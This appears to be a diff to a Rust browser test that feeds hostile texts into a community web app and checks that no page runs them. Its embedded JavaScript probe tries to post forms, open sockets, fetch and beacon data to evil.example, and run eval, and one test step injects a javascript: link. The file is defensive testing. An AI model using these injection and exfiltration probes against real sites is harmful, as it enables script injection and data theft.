@@ -167,16 +167,20 @@ fn odd() -> Vec<String> {
 /// Three hundred of them: each alone, then glued to ordinary words and to each other.
 fn texts() -> Vec<String> {
     let armed = |text: &&str| text.replace("HIT", HIT);
-    let mut all: Vec<String> = MARKUP.iter().chain(&ADDRESSES).map(|text| armed(&text)).chain(odd()).collect();
+    let mut all: Vec<String> = MARKUP.iter().chain(&ADDRESSES).map(armed).chain(odd()).collect();
     let plain = all.clone();
     let mut place = 0;
     while all.len() < COUNT {
         let (one, other) = (&plain[place % plain.len()], &plain[(place * 7 + 3) % plain.len()]);
-        let short: String = other.chars().take(200).collect();
+        let short = cut(other, 100);
         all.push(if place < plain.len() { format!("晨读{one}打卡") } else { format!("{short}{one}") });
         place += 1;
     }
-    all.iter().map(|text| text.chars().take(1_200).collect()).collect()
+    all.iter().map(|text| cut(text, 240)).collect()
+}
+
+fn cut(text: &str, most: usize) -> String {
+    text.chars().take(most).collect()
 }
 
 /// The founder's feed as it grows.
@@ -245,16 +249,18 @@ fn story(founder: &mut Founder, texts: &[String]) {
     );
     let set = |settings| Fact::Set { from: TODAY.plus(-20), settings };
     for part in texts.chunks(4) {
-        founder.says(set(vec![Setting::Rules(part.to_vec()), Setting::Categories(part.to_vec())]), None);
+        founder.says(set(vec![Setting::Rules(part.to_vec())]), None);
+        founder.says(set(vec![Setting::Categories(part.to_vec())]), None);
         founder.says(set(vec![Setting::Challenge(CHALLENGE, ChallengeSetting::Tasks(part.to_vec()))]), None);
-        founder.says(set(vec![Setting::Tiers(part.to_vec()), Setting::Inside(part[0].clone())]), None);
+        founder.says(set(vec![Setting::Tiers(part.to_vec())]), None);
+        founder.says(set(vec![Setting::Inside(part[0].clone())]), None);
         let items = part.iter().zip(0..).map(|(what, hour)| DayItem { minute: hour * 60, what: what.clone() });
         founder.says(set(vec![Setting::Timetable(items.collect())]), None);
         let levels = part.iter().zip(1..).map(|(name, level)| Level { points: level * 10, name: name.clone() });
         founder.says(set(vec![Setting::Levels(levels.collect())]), None);
     }
     let mut order = Vec::new();
-    for (place, part) in texts.chunks(8).enumerate() {
+    for (place, part) in texts.chunks(6).enumerate() {
         let (id, text) = (QuestionId::from_bits(place as u32), |at: usize| part[at % part.len()].clone());
         let kind = match place % 3 {
             0 => QuestionKind::Single { options: Choice::list(part), other: Other::Open },
@@ -270,6 +276,14 @@ fn story(founder: &mut Founder, texts: &[String]) {
         founder.says(set(vec![Setting::Text(TextId::from_bits(place as u32), own)]), None);
     }
     founder.says(set(vec![Setting::Questions(order)]), None);
+    // Without an end and without a place where a line could break.
+    let endless = ["W", "长", "<", "\u{1f600}", "\u{300}"].map(|letter| letter.repeat(900));
+    founder.says(set(vec![Setting::Rules(endless[..2].to_vec())]), None);
+    for (number, text) in (900u64..).zip(&endless) {
+        let settings = vec![ResourceSetting::Title(text.clone()), ResourceSetting::Text(cut(text, 600))];
+        founder.says(Fact::Share { resource: ResourceId::from_bits(number), on: TODAY, settings }, None);
+        founder.says(Fact::Letter { on: TODAY }, Some(text));
+    }
     for (text, number) in texts.iter().zip(0u64..) {
         let (member, other) = (MemberId::from_bits(1_000 + number), &texts[(number as usize * 31 + 5) % texts.len()]);
         let people = vec![NewPerson { id: member, name: text.clone(), on: TODAY.plus(-10) }];
@@ -278,10 +292,10 @@ fn story(founder: &mut Founder, texts: &[String]) {
             ResourceSetting::Title(text.clone()),
             ResourceSetting::Address(text.clone()),
             ResourceSetting::Text(other.clone()),
-            ResourceSetting::About(text.chars().take(300).collect()),
-            ResourceSetting::Author(text.chars().take(200).collect()),
-            ResourceSetting::Category(text.chars().take(200).collect()),
-            ResourceSetting::Tags(vec![text.chars().take(100).collect()]),
+            ResourceSetting::About(cut(text, 300)),
+            ResourceSetting::Author(cut(text, 200)),
+            ResourceSetting::Category(cut(text, 200)),
+            ResourceSetting::Tags(vec![cut(text, 100)]),
         ];
         founder.says(Fact::Share { resource: ResourceId::from_bits(number), on: TODAY, settings }, None);
         let day = TODAY.plus(-(number as i32 % 9) - 1);
@@ -300,7 +314,7 @@ fn story(founder: &mut Founder, texts: &[String]) {
         }
         let promise = vec![
             PromiseSetting::What(text.clone()),
-            PromiseSetting::Cost(text.chars().take(200).collect()),
+            PromiseSetting::Cost(cut(text, 200)),
             PromiseSetting::For(Deserving::Rule(other.clone())),
         ];
         founder.says(Fact::Promise { promise: PromiseId::from_bits(number), settings: promise }, None);
@@ -366,13 +380,11 @@ async fn three_hundred_hostile_texts_run_nowhere_and_break_no_page() -> WebDrive
     browser.visit(&address).await?;
     look(&browser, "the door", &mut broken).await?;
     join(&browser, &address, "Amy").await?;
-    import(&browser, &site, &founder.file(&texts[2]), Data(ZH).merge_go()).await?;
     // The founder makes Amy an operator, so that her phone shows the operators' pages too.
     let mine = File::parse(&exported(&browser, &site).await?).expect("a file of ours");
     let amy = mine.feeds.iter().find(|(feed, ..)| *feed != founder.community()).expect("Amy's own feed");
     let joined = Entry::read(&amy.2.entries[0]).expect("an entry of ours").fact;
     let Fact::Join { member, .. } = joined else { panic!("Amy has joined: {joined:?}") };
-    // Past the clock of her joining.
     founder.says(Fact::Appoint { member, role: Role::Operator }, None);
     import(&browser, &site, &founder.file(&texts[2]), Data(ZH).merge_go()).await?;
     browser.visit(&site.page(Page::Desk)).await?;
@@ -405,6 +417,9 @@ async fn three_hundred_hostile_texts_run_nowhere_and_break_no_page() -> WebDrive
     browser.shot("hostile-last").await?;
     browser.visit(&site.page(Page::Library)).await?;
     browser.shot("hostile-library").await?;
+    // It would have been seen.
+    browser.run("const it = document.createElement('a'); it.href = 'javascript:1'; it.setAttribute('onfocus', '1'); document.querySelector('main').append(it)").await?;
+    assert_eq!(browser.run(BROKEN).await?.as_array().map(Vec::len), Some(3));
     assert!(broken.is_empty(), "{} things are wrong:\n{}", broken.len(), broken.join("\n"));
     Ok(())
 }
@@ -435,16 +450,20 @@ const BREAK: &str = "
     put('iframe', { src: 'https://evil.example/' });
     put('object', { data: 'https://evil.example/' });
     put('video', { src: 'https://evil.example/x.mp4' });
-    put('base', { href: 'https://evil.example/' });
+    document.querySelector('base').href = 'https://evil.example/';
     put('form', { action: 'https://evil.example/', method: 'post' }).submit();
-    attempt('eval', () => eval('window.__broken = \"eval\"'));
-    attempt('function', () => new Function('window.__broken = \"a function\"')());
-    attempt('timeout', () => setTimeout('window.__broken = \"a timeout\"', 0));
     attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))));
     attempt('socket', () => new WebSocket('wss://evil.example/'));
+    // A driver's script may evaluate texts while it runs itself; what comes later is the page's.
+    const later = new Promise((go) => setTimeout(() => {
+        attempt('eval', () => eval('window.__broken = \"eval\"'));
+        attempt('function', () => new Function('window.__broken = \"a function\"')());
+        attempt('timeout', () => setTimeout('window.__broken = \"a timeout\"', 0));
+        go();
+    }, 0));
     const asked = fetch('https://evil.example/').then(() => 'went through', (error) => error.name);
     navigator.sendBeacon?.('https://evil.example/', 'x');
-    asked.then((fetched) => setTimeout(() => done({
+    Promise.all([asked, later]).then(([fetched]) => setTimeout(() => done({
         refused: [...refused].sort(), tried, fetched, broken: window.__broken ?? null, shown: getComputedStyle(document.body).display,
         base: document.baseURI.startsWith(location.origin),
     }), 500));";
